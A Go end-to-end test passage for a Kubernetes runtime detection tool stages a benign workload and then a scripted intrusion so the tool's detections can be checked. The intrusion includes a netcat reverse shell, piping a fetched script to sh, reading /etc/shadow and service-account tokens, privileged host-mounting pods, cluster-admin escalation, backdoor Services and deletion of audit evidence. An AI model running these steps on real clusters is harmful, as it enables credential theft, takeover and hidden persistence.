//go:build e2enode

package scenario

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apimeta "k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/riposte-dev/riposte/api/v1alpha1"
	"github.com/riposte-dev/riposte/bpf"
	"github.com/riposte-dev/riposte/engine"
	"github.com/riposte-dev/riposte/engine/enrich"
	"github.com/riposte-dev/riposte/host"
	"github.com/riposte-dev/riposte/internal/agent"
	"github.com/riposte-dev/riposte/internal/controllermgr"
	"github.com/riposte-dev/riposte/internal/kube"
	"github.com/riposte-dev/riposte/test/cluster"
	"github.com/riposte-dev/riposte/test/node"
	"github.com/riposte-dev/riposte/test/stack"
)

var update = flag.Bool("update", false, "rewrite testdata from this live run")

const (
	shop       = "shop"
	attackerSA = "system:serviceaccount:shop:api"
)

// scene is the running scenario: the node, the identities acting on it,
// and the host-side servers the attack talks to.
type scene struct {
	t   *testing.T
	ctx context.Context
	n   *node.Node
	// admin is the test harness (system:masters); deployer the CI identity
	// of the benign part; attacker a kubeconfig with the stolen token.
	admin    client.Client
	deployer client.Client
	attacker client.Client
	kubectl  string
	dir      string
	// deployerKC and attackerKC are kubeconfig files for the kubectl binary.
	deployerKC, attackerKC string
	gw                     string // the pod network's gateway: the host, as pods reach it
	httpPort, shellPort    int
}

// TestScenarioOnARealNode runs the scenario on a real node and the real
// kernel: the benign lifecycle, then the attack; it records the audit log and
// the sensors' events and checks them source by source (checkRecording),
// and checks that the controller made one Incident, with its actor, of a
// pod it saw both in the audit log and from its live watch. With -update
// the recording replaces testdata.
func TestScenarioOnARealNode(t *testing.T) {
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 35*time.Minute)
	defer cancel()
	begin := time.Now()
	n := node.StartT(t, node.Options{ControllerManager: true, StartTimeout: 20 * time.Minute, Controller: &stack.Options{
		Root: root, Response: controllermgr.Response{Disable: true},
	}})
	s := &scene{t: t, ctx: ctx, n: n, admin: n.Stack.Client, dir: t.TempDir()}
	bin, err := cluster.BinDir()
	if err != nil {
		t.Fatal(err)
	}
	s.kubectl = filepath.Join(bin, "kubectl")
	s.gw = n.Gateway().String()

	kernel := s.startSensors(library(t))
	s.applyLibrary(root)
	s.makeDeployer()

	// The benign part: a CI identity deploys and runs applications.
	s.benign()
	time.Sleep(2 * time.Second)
	attack := time.Now()
	time.Sleep(2 * time.Second)

	// The attack. Its servers sit at the pods' gateway, which the CNI
	// bridge has since the first pod.
	s.startServers()
	s.attack()
	time.Sleep(3 * time.Second) // the last audit events and kernel events reach their logs
	end := time.Now()
	s.checkOneIncidentPerPod()

	ph := phases{Begin: begin, Attack: attack, End: end, Harness: "riposte-test-admin"}
	auditLog, err := os.ReadFile(filepath.Join(n.Cluster.Dir(), "audit.log"))
	if err != nil {
		t.Fatal(err)
	}
	kernelLog := kernel.bytes()
	t.Logf("recorded %d bytes of audit log and %d bytes of kernel events", len(auditLog), len(kernelLog))
	if dir := os.Getenv("RIPOSTE_SCENARIO_OUT"); dir != "" {
		// Kept for a look: the uncompressed recording of this run.
		_ = os.WriteFile(filepath.Join(dir, "audit.jsonl"), auditLog, 0o644)
		_ = os.WriteFile(filepath.Join(dir, "kernel.jsonl"), kernelLog, 0o644)
	}
	checkRecording(t, bytes.NewReader(auditLog), bytes.NewReader(kernelLog), ph)
	if *update && !t.Failed() {
		if err := writeRecording(auditLog, kernelLog, ph); err != nil {
			t.Fatal(err)
		}
	}
}

// recorder keeps the sensors' events of the node: its containers and its
// runtime's processes (kubelet, containerd, shims, runc). Other processes of
// this machine are not part of the scenario.
type recorder struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (r *recorder) add(ev *engine.Event) {
	if ev.Container.ID == "" && !fromNode(ev) {
		return
	}
	b, err := json.Marshal(ev)
	if err != nil {
		return
	}
	r.mu.Lock()
	r.buf.Write(b)
	r.buf.WriteByte('\n')
	r.mu.Unlock()
}

func (r *recorder) bytes() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]byte(nil), r.buf.Bytes()...)
}

// fromNode tells the node's runtime processes (and what they run on the
// host) from the rest of the machine.
func fromNode(ev *engine.Event) bool {
	node := func(name string) bool {
		return name == "kubelet" || name == "containerd" || strings.HasPrefix(name, "containerd-shim") || name == "runc" || strings.Contains(name, "runc_cloned")
	}
	if node(ev.Process.Name) {
		return true
	}
	for _, a := range ev.Process.Ancestors {
		if node(a.Name) {
			return true
		}
	}
	return false
}

// startSensors runs the eBPF sensors through internal/agent with the
// library's live rules and prefilters, enriched with the node's pods as the
// node agent does (engine/enrich fed by internal/kube).
func (s *scene) startSensors(rules []*engine.Rule) *recorder {
	t, ctx := s.t, s.ctx
	store, err := enrich.New(enrich.Options{})
	if err != nil {
		t.Fatal(err)
	}
	src, err := kube.NewSource(s.n.Cluster.AdminConfig(), store, node.Name)
	if err != nil {
		t.Fatal(err)
	}
	rec := &recorder{}
	a, err := agent.New(agent.Config{
		Node: node.Name, Log: slog.New(slog.NewTextHandler(io.Discard, nil)),
		Enrich: store.Enrich, OnEvent: rec.add,
	})
	if err != nil {
		t.Fatalf("the sensors must load on this machine (root, BTF): %v", err)
	}
	run, stop := context.WithCancel(ctx)
	var wg sync.WaitGroup
	t.Cleanup(func() {
		stop()
		wg.Wait()
		a.Close()
	})
	if _, err := a.SetRules(rules, nil); err != nil {
		t.Fatal(err)
	}
	wg.Add(4)
	go func() { defer wg.Done(); _ = src.Start(run) }()
	cgroups := host.Cgroups{Root: host.DefaultCgroupRoot()}
	go func() { defer wg.Done(); (&enrich.Scanner{Store: store, Cgroups: cgroups}).Run(run, nil) }()
	go func() {
		defer wg.Done()
		// Container cgroups are registered with the kernel filter before
		// their events are judged as a container's (docs/agent.md).
		tick := time.NewTicker(500 * time.Millisecond)
		defer tick.Stop()
		for {
			if found, err := cgroups.Scan(); err == nil {
				for _, cg := range found {
					if cg.ContainerID != "" {
						_ = a.Sensors().SetContainerCgroup(cg.ID, bpf.CgroupContainer)
					}
				}
			}
			select {
			case <-run.Done():
				return
			case <-tick.C:
			}
		}
	}()
	go func() { defer wg.Done(); _ = a.Run(run) }()
	return rec
}

// applyLibrary applies rules/ as Flux would and waits until the controller
// made every rule Ready.
func (s *scene) applyLibrary(root string) {
	t, ctx := s.t, s.ctx
	if out, err := s.n.Cluster.Kubectl(ctx, "apply", "-R", "-f", filepath.Join(root, "rules")).CombinedOutput(); err != nil {
		t.Fatalf("kubectl apply rules/: %v\n%s", err, out)
	}
	s.waitFor("every rule Ready", 2*time.Minute, func() (bool, string) {
		var list v1alpha1.ClusterDetectionRuleList
		if err := s.admin.List(ctx, &list); err != nil {
			return false, err.Error()
		}
		var pending []string
		for _, r := range list.Items {
			if r.Status.ObservedGeneration != r.Generation || !apimeta.IsStatusConditionTrue(r.Status.Conditions, v1alpha1.ReadyCondition) {
				pending = append(pending, r.Name)
			}
		}
		return len(list.Items) > 60 && len(pending) == 0, fmt.Sprintf("%d rules, not Ready: %v", len(list.Items), pending)
	})
}

// makeDeployer gives the benign part its identity: a CI user bound to
// cluster-admin, as GitOps controllers and CI pipelines are.
func (s *scene) makeDeployer() {
	t, ctx := s.t, s.ctx
	cfg, err := s.n.Cluster.UserConfig("ci-deployer")
	if err != nil {
		t.Fatal(err)
	}
	s.must(s.admin.Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "ci-deployer"},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: "User", Name: "ci-deployer", APIGroup: "rbac.authorization.k8s.io"}},
	}))
	if s.deployer, err = client.New(cfg, client.Options{Scheme: controllermgr.Scheme()}); err != nil {
		t.Fatal(err)
	}
	s.deployerKC = s.writeKubeconfig("deployer", &clientcmdapi.AuthInfo{ClientCertificateData: cfg.CertData, ClientKeyData: cfg.KeyData})
}

func (s *scene) writeKubeconfig(name string, auth *clientcmdapi.AuthInfo) string {
	kc := clientcmdapi.NewConfig()
	kc.Clusters["c"] = &clientcmdapi.Cluster{Server: s.n.Cluster.Host(), CertificateAuthorityData: s.n.Cluster.CAData()}
	kc.AuthInfos["u"] = auth
	kc.Contexts["c"] = &clientcmdapi.Context{Cluster: "c", AuthInfo: "u"}
	kc.CurrentContext = "c"
	path := filepath.Join(s.dir, name+".kubeconfig")
	if err := clientcmd.WriteToFile(*kc, path); err != nil {
		s.t.Fatal(err)
	}
	return path
}

// startServers serves what the attack fetches and a listener a reverse
// shell connects to, on the host at the pods' gateway.
func (s *scene) startServers() {
	t := s.t
	web, err := net.Listen("tcp", s.gw+":0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "echo fetched\n")
	})}
	go srv.Serve(web)
	t.Cleanup(func() { srv.Close() })
	s.httpPort = web.Addr().(*net.TCPAddr).Port

	shell, err := net.Listen("tcp", s.gw+":4444")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { shell.Close() })
	s.shellPort = 4444
	go func() {
		for {
			c, err := shell.Accept()
			if err != nil {
				return
			}
			// The attacker types one command into the shell and leaves.
			c.SetDeadline(time.Now().Add(3 * time.Second))
			io.WriteString(c, "id\nexit\n")
			io.Copy(io.Discard, c)
			c.Close()
		}
	}()
}

// benign is a day of a small cluster: a namespace (its ServiceAccount
// bootstrapped by kube-controller-manager), Deployments with exec probes
// that run a shell, a rollout, scaling up and down, a Service, a Job and a
// CronJob's run.
func (s *scene) benign() {
	t, ctx := s.t, s.ctx
	c := s.deployer
	s.must(c.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: shop}}))
	s.waitFor("the default ServiceAccount of shop", time.Minute, func() (bool, string) {
		var sa corev1.ServiceAccount
		err := c.Get(ctx, client.ObjectKey{Namespace: shop, Name: "default"}, &sa)
		return err == nil, fmt.Sprint(err)
	})
	s.must(c.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "api", Namespace: shop}}))
	probe := func(cmd string, period int32) *corev1.Probe {
		return &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", cmd}}}, PeriodSeconds: period}
	}
	web := deployment("web", 2, corev1.PodSpec{Containers: []corev1.Container{{
		Name: "app", Command: []string{"/pause"},
		ReadinessProbe: probe("test -d /tmp", 2),
		LivenessProbe:  probe("[ -e /pause ]", 3),
	}}})
	yes := true
	api := deployment("api", 1, corev1.PodSpec{ServiceAccountName: "api", AutomountServiceAccountToken: &yes,
		Containers: []corev1.Container{{Name: "app", Command: []string{"/pause"}, ReadinessProbe: probe("test -e /pause", 2)}}})
	s.must(c.Create(ctx, web))
	s.must(c.Create(ctx, api))
	s.must(c.Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: shop},
		Spec: corev1.ServiceSpec{Selector: map[string]string{"app": "web"}, Ports: []corev1.ServicePort{{Port: 80}}}}))
	s.waitDeployment("web", 2)
	s.waitDeployment("api", 1)

	// A rollout: a new ReplicaSet replaces the pods.
	s.must(c.Get(ctx, client.ObjectKeyFromObject(web), web))
	web.Spec.Template.Annotations = map[string]string{"example.com/release": "2"}
	s.must(c.Update(ctx, web))
	s.waitRollout("web")
	// Scale up, then down.
	s.scale(web, 3)
	s.scale(web, 1)

	// A Job, and a CronJob's run by kube-controller-manager.
	jobSpec := func() batchv1.JobSpec {
		spec := corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{Name: "task", Command: []string{"sleep", "1"}}}}
		node.PrepareSpec(&spec)
		return batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: spec}}
	}
	s.must(c.Create(ctx, &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "migrate", Namespace: shop}, Spec: jobSpec()}))
	s.must(c.Create(ctx, &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Name: "report", Namespace: shop},
		Spec: batchv1.CronJobSpec{Schedule: "* * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: jobSpec()}}}))
	s.waitFor("the Job and a run of the CronJob complete", 3*time.Minute, func() (bool, string) {
		var jobs batchv1.JobList
		if err := c.List(ctx, &jobs, client.InNamespace(shop)); err != nil {
			return false, err.Error()
		}
		done := map[string]bool{}
		var state []string
		for _, j := range jobs.Items {
			owner := j.Name
			if len(j.OwnerReferences) > 0 {
				owner = j.OwnerReferences[0].Name
			}
			if j.Status.Succeeded > 0 {
				done[owner] = true
			}
			state = append(state, fmt.Sprintf("%s succeeded=%d", j.Name, j.Status.Succeeded))
		}
		return done["migrate"] && done["report"], strings.Join(state, ", ")
	})
	// Let the probes run a while.
	time.Sleep(6 * time.Second)
	t.Logf("benign part done")
}

func deployment(name string, replicas int32, spec corev1.PodSpec) *appsv1.Deployment {
	node.PrepareSpec(&spec)
	labels := map[string]string{"app": name}
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: shop},
		Spec: appsv1.DeploymentSpec{Replicas: &replicas, Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: spec}},
	}
}

func (s *scene) scale(d *appsv1.Deployment, replicas int32) {
	s.must(s.deployer.Get(s.ctx, client.ObjectKeyFromObject(d), d))
	d.Spec.Replicas = &replicas
	s.must(s.deployer.Update(s.ctx, d))
	s.waitRollout(d.Name)
}

// waitDeployment waits until the Deployment has n ready replicas.
func (s *scene) waitDeployment(name string, n int32) {
	s.waitRollout(name)
	s.waitFor(name+" ready", 2*time.Minute, func() (bool, string) {
		var d appsv1.Deployment
		if err := s.deployer.Get(s.ctx, client.ObjectKey{Namespace: shop, Name: name}, &d); err != nil {
			return false, err.Error()
		}
		return d.Status.ReadyReplicas == n, fmt.Sprintf("ready %d of %d", d.Status.ReadyReplicas, n)
	})
}

// waitRollout waits until the Deployment's pods are all of its current
// template, ready, and the old ones gone.
func (s *scene) waitRollout(name string) {
	s.waitFor(name+" rolled out", 2*time.Minute, func() (bool, string) {
		var d appsv1.Deployment
		if err := s.deployer.Get(s.ctx, client.ObjectKey{Namespace: shop, Name: name}, &d); err != nil {
			return false, err.Error()
		}
		st := d.Status
		want := *d.Spec.Replicas
		var pods corev1.PodList
		if err := s.deployer.List(s.ctx, &pods, client.InNamespace(shop), client.MatchingLabels{"app": name}); err != nil {
			return false, err.Error()
		}
		ok := st.ObservedGeneration == d.Generation && st.UpdatedReplicas == want && st.ReadyReplicas == want && st.Replicas == want && int32(len(pods.Items)) == want
		return ok, fmt.Sprintf("%+v, %d pods", st, len(pods.Items))
	})
}

// podOf returns a running pod of a Deployment.
func (s *scene) podOf(app string) string {
	var name string
	s.waitFor("a running pod of "+app, time.Minute, func() (bool, string) {
		var pods corev1.PodList
		if err := s.admin.List(s.ctx, &pods, client.InNamespace(shop), client.MatchingLabels{"app": app}); err != nil {
			return false, err.Error()
		}
		for _, p := range pods.Items {
			if p.Status.Phase == corev1.PodRunning && p.DeletionTimestamp == nil {
				name = p.Name
				return true, ""
			}
		}
		return false, fmt.Sprintf("%d pods", len(pods.Items))
	})
	return name
}

// attack is an intrusion from a foothold in the api pod: the harness first
// makes the api ServiceAccount over-privileged (as the cluster was before
// the attack); then the attacker works in the pod, steals its token, uses
// it from outside, and after a deployer is tricked into binding it to
// cluster-admin, entrenches.
func (s *scene) attack() {
	t, ctx := s.t, s.ctx
	// The state the attack starts from (harness, not part of the attack).
	s.must(s.admin.Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "api", Namespace: shop}, Rules: []rbacv1.PolicyRule{
		{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list"}},
		{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "list", "create"}},
		{APIGroups: []string{""}, Resources: []string{"pods/exec", "pods/portforward", "serviceaccounts/token"}, Verbs: []string{"create", "get"}},
		{APIGroups: []string{""}, Resources: []string{"pods/ephemeralcontainers"}, Verbs: []string{"patch", "update"}},
	}}))
	s.must(s.admin.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "api", Namespace: shop},
		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: "api"},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: "api", Namespace: shop}}}))
	s.must(s.admin.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db", Namespace: shop}, StringData: map[string]string{"password": "hunter2"}}))

	// In the pod: the foothold (a shell through the exploited application).
	api := s.podOf("api")
	gw := s.gw
	for _, cmd := range [][]string{
		{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null"},
		{"sh", "-c", "cat /etc/shadow >/dev/null"},
		{"cat", "/proc/1/environ"},
		{"sh", "-c", "echo /tmp/x.so >> /etc/ld.so.preload"},
		{"sh", "-c", "cp /bin/busybox /bin/.cache"},
		{"sh", "-c", "cp /bin/busybox /tmp/nc && /tmp/nc -w 1 " + gw + fmt.Sprint(" ", s.httpPort) + " </dev/null"},
		{"sh", "-c", "mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc " + gw + " 4444 >/tmp/f; rm -f /tmp/f"},
		{"sh", "-c", fmt.Sprintf("wget -q -O- http://%s:%d/x | sh", gw, s.httpPort)},
		{"sleep", "0", "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1"},
		{"nc", "-w", "1", gw, "3333"},
		{"nc", "-w", "1", gw, "10250"},
		{"nc", "-w", "1", gw, "6443"},
		{"nc", "-w", "1", "169.254.169.254", "80"},
		{"unshare", "-n", "true"},
		{"mount", "-t", "tmpfs", "none", "/mnt"},
		{"grep", "-rl", "BEGIN RSA PRIVATE KEY", "/etc"},
		{"sh", "-c", "echo data > /tmp/db && shred -u /tmp/db"},
		{"timeout", "2", "nc", "-l", "-p", "5555"},
	} {
		out, err := s.n.Exec(ctx, shop, api, cmd...)
		t.Logf("in the pod: %q -> %q %v", strings.Join(cmd, " "), bytes.TrimSpace(out), firstLine(err))
	}
	token, err := s.n.Exec(ctx, shop, api, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
	if err != nil {
		t.Fatal(err)
	}
	s.attackerKC = s.writeKubeconfig("attacker", &clientcmdapi.AuthInfo{Token: string(bytes.TrimSpace(token))})
	cfg, err := clientcmd.BuildConfigFromFlags("", s.attackerKC)
	if err != nil {
		t.Fatal(err)
	}
	cfg.UserAgent = "kubectl/v1.37.2 (linux/amd64) kubernetes/0000000"
	if s.attacker, err = client.New(cfg, client.Options{Scheme: controllermgr.Scheme()}); err != nil {
		t.Fatal(err)
	}

	// With the stolen token, from outside the cluster, with kubectl.
	k := s.kubectlAs(s.attackerKC)
	k(true, "auth", "can-i", "--list", "-n", shop)
	k(true, "auth", "can-i", "create", "pods", "-n", shop)
	k(true, "get", "secrets", "-n", shop)
	k(false, "get", "secrets", "-A")
	k(true, "get", "secret", "db", "-n", shop)
	k(false, "get", "secret", "bootstrap-token-x", "-n", "kube-system")
	k(true, "create", "token", "default", "-n", shop)
	k(true, "exec", "-n", shop, api, "--", "id")
	web := s.podOf("web")
	k(true, "debug", "-n", shop, web, "--image", node.BusyboxImage, "--image-pull-policy", "Never", "--", "/pause")
	s.portForward(api)

	// Pods that reach the host, from the stolen token.
	priv, hostPID := true, true
	rootPod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "root", Namespace: shop}, Spec: corev1.PodSpec{
		ServiceAccountName: "api", HostPID: hostPID,
		Containers: []corev1.Container{{Name: "sh", Command: []string{"/pause"}, SecurityContext: &corev1.SecurityContext{Privileged: &priv},
			VolumeMounts: []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}}},
		Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
	}}
	node.PrepareSpec(&rootPod.Spec)
	s.must(s.attacker.Create(ctx, rootPod))
	escalate := true
	tools := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "tools", Namespace: shop}, Spec: corev1.PodSpec{
		Containers: []corev1.Container{{Name: "t", Command: []string{"/pause"}, SecurityContext: &corev1.SecurityContext{
			AllowPrivilegeEscalation: &escalate, Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}}}},
	}}
	node.PrepareSpec(&tools.Spec)
	s.must(s.attacker.Create(ctx, tools))
	if _, err := s.n.WaitRunning(ctx, shop, "root"); err != nil {
		t.Fatal(err)
	}
	k(true, "exec", "-n", shop, "root", "--", "ls", "/host/var/lib/kubelet")

	// A deployer is tricked into binding the ServiceAccount to cluster-admin.
	s.kubectlAs(s.deployerKC)(true, "create", "clusterrolebinding", "shop-api-admin", "--clusterrole=cluster-admin", "--serviceaccount=shop:api")

	// Entrenching with cluster-admin.
	s.waitFor("cluster-admin in effect for the token", 30*time.Second, func() (bool, string) {
		var nss corev1.NamespaceList
		err := s.attacker.List(ctx, &nss)
		return err == nil, fmt.Sprint(err)
	})
	s.must(s.attacker.Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "kube-proxy-x", Namespace: "kube-system"},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "p", Image: node.BusyboxImage, Command: []string{"/pause"}}}, NodeName: "nowhere"}}))
	s.must(s.attacker.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "kube-helper", Namespace: "kube-system"}}))
	s.must(s.attacker.Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "helper"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}}))
	s.must(s.attacker.Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "binder"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"clusterroles"}, Verbs: []string{"bind", "escalate"}}}}))
	s.must(s.attacker.Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "debugger", Namespace: shop},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"create"}}}}))
	s.must(s.attacker.Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "open-view"},
		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "view"},
		Subjects: []rbacv1.Subject{{Kind: "User", Name: "system:anonymous", APIGroup: "rbac.authorization.k8s.io"}}}))
	s.anonymousGet("/api/v1/namespaces/shop/pods")
	k(true, "patch", "clusterrole", "system:node-problem-detector", "--type=json", `-p=[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}}]`)
	k(true, "delete", "clusterrole", "system:heapster")
	k(true, "get", "pods", "-n", shop, "--as=ci-deployer")
	s.csr()
	k(true, "create", "-f", "-", `{"apiVersion":"v1","kind":"Node","metadata":{"name":"fake-node"}}`)
	// The API server refuses to proxy to a loopback node address: an attempt.
	k(false, "get", "--raw", "/api/v1/nodes/"+node.Name+"/proxy/pods")
	k(true, "delete", "events", "--all", "-n", shop)
	s.deleteAnIncident()
	k(true, "create", "-f", "-", `{"apiVersion":"admissionregistration.k8s.io/v1","kind":"ValidatingWebhookConfiguration","metadata":{"name":"audit-bypass"}}`)
	ds := &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "node-agent", Namespace: "kube-system"}, Spec: appsv1.DaemonSetSpec{
		Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "node-agent"}},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "node-agent"}},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "a", Image: node.BusyboxImage, Command: []string{"/pause"}}}}}}}
	s.must(s.attacker.Create(ctx, ds))
	for _, ns := range []string{"kube-system", shop} {
		s.must(s.attacker.Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "backdoor", Namespace: ns},
			Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeNodePort, Selector: map[string]string{"app": "web"}, Ports: []corev1.ServicePort{{Port: 80}}}}))
	}
	k(true, "create", "namespace", "production")
	s.must(s.attacker.Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "cache", Namespace: "production"},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "redis:7", Command: []string{"/pause"}}}, NodeName: "nowhere"}}))
	t.Logf("attack done")
}

// kubectlAs returns a runner of the real kubectl binary with a kubeconfig.
// A command's last argument starting with { is its stdin.
func (s *scene) kubectlAs(kubeconfig string) func(wantOK bool, args ...string) {
	return func(wantOK bool, args ...string) {
		s.t.Helper()
		var stdin io.Reader
		if n := len(args); n > 0 && strings.HasPrefix(args[n-1], "{") {
			stdin, args = strings.NewReader(args[n-1]), args[:n-1]
		}
		cmd := exec.CommandContext(s.ctx, s.kubectl, append([]string{"--kubeconfig", kubeconfig}, args...)...)
		cmd.Env = []string{"HOME=" + s.dir, "PATH=/usr/bin:/bin"}
		cmd.Stdin = stdin
		out, err := cmd.CombinedOutput()
		s.t.Logf("kubectl %s -> %v %s", strings.Join(args, " "), firstLine(err), firstLine(fmt.Errorf("%s", bytes.TrimSpace(out))))
		if wantOK && err != nil {
			s.t.Fatalf("kubectl %s: %v\n%s", strings.Join(args, " "), err, out)
		}
		if !wantOK && err == nil {
			s.t.Fatalf("kubectl %s succeeded; the scenario wants it refused", strings.Join(args, " "))
		}
	}
}

// portForward forwards a port of the pod for a moment with the stolen token.
func (s *scene) portForward(pod string) {
	cmd := exec.CommandContext(s.ctx, s.kubectl, "--kubeconfig", s.attackerKC, "port-forward", "-n", shop, pod, "18080:80")
	cmd.Env = []string{"HOME=" + s.dir, "PATH=/usr/bin:/bin"}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		s.t.Fatal(err)
	}
	s.waitFor("kubectl port-forward listens", 30*time.Second, func() (bool, string) {
		return strings.Contains(out.String(), "Forwarding from"), out.String()
	})
	if c, err := net.DialTimeout("tcp", "127.0.0.1:18080", 2*time.Second); err == nil {
		c.Close()
	}
	time.Sleep(500 * time.Millisecond)
	cmd.Process.Kill()
	cmd.Wait()
}

// anonymousGet makes a request without credentials.
func (s *scene) anonymousGet(path string) {
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(s.n.Cluster.CAData())
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
	var status int
	s.waitFor("an anonymous request is allowed", 30*time.Second, func() (bool, string) {
		resp, err := c.Get(s.n.Cluster.Host() + path)
		if err != nil {
			return false, err.Error()
		}
		resp.Body.Close()
		status = resp.StatusCode
		return status == http.StatusOK, resp.Status
	})
	s.t.Logf("anonymous GET %s -> %d", path, status)
}

// csr asks for a client certificate of the API server and approves it.
func (s *scene) csr() {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		s.t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: "backup-admin", Organization: []string{"cluster-operators"}}}, key)
	if err != nil {
		s.t.Fatal(err)
	}
	req := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
	body, _ := json.Marshal(map[string]any{"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
		"metadata": map[string]any{"name": "backup-admin"},
		"spec":     map[string]any{"request": req, "signerName": "kubernetes.io/kube-apiserver-client", "usages": []string{"client auth"}}})
	k := s.kubectlAs(s.attackerKC)
	k(true, "create", "-f", "-", string(body))
	k(true, "certificate", "approve", "backup-admin")
}

// deleteAnIncident deletes one of the Incidents the attack has caused.
func (s *scene) deleteAnIncident() {
	var name, ns string
	s.waitFor("an Incident to delete", time.Minute, func() (bool, string) {
		var list v1alpha1.IncidentList
		if err := s.admin.List(s.ctx, &list); err != nil {
			return false, err.Error()
		}
		for _, in := range list.Items {
			name, ns = in.Name, in.Namespace
			return true, ""
		}
		return false, "no Incident"
	})
	s.kubectlAs(s.attackerKC)(true, "delete", "incident", "-n", ns, name)
}

// checkOneIncidentPerPod: the privileged pod the stolen token created was
// seen by the controller from the audit log and from its live watch; both
// fold into one Incident naming the pod and who created it.
func (s *scene) checkOneIncidentPerPod() {
	var pod corev1.Pod
